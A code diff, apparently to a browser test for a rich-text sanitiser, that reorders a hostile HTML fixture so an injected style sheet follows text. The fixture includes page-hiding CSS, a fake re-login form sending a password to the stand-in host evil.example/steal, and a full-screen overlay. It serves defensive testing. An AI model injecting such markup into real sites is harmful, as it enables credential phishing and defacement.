@@ -10,9 +10,10 @@ import { checkpoint, expectNoConsoleErrors, useBrowserSession } from './support/
 
 const NAME = '富文本安全检查活动';
 const TEXT = '活动当天请准时到场';
+// the style sheet after some text: a leading one the HTML parser would drop on its own
 const HOSTILE =
-  '<style>html, body, div, section, main, article, header, footer { background: rgb(255, 0, 0) !important; color: rgb(255, 0, 0) !important; }</style>' +
   `<p>${TEXT}</p>` +
+  '<style>html, body, div, section, main, article, header, footer { background: rgb(255, 0, 0) !important; color: rgb(255, 0, 0) !important; }</style>' +
   '<form action="https://evil.example/steal"><p>请重新登录</p><input type="password" name="pw" placeholder="密码">' +
   '<button type="submit">登录</button></form>' +
   '<p style="position: fixed; inset: 0; z-index: 9999; background-color: rgb(0, 0, 255)">覆盖</p>';
